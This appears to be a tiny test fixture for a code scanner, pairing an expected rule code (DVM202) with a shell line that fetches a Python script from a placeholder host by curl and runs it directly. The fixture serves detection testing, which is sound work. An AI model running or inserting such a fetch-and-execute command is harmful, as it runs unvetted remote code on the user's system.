# expect: DVM202
python3 -c "$(curl -s https://x.example.org/a.py)"
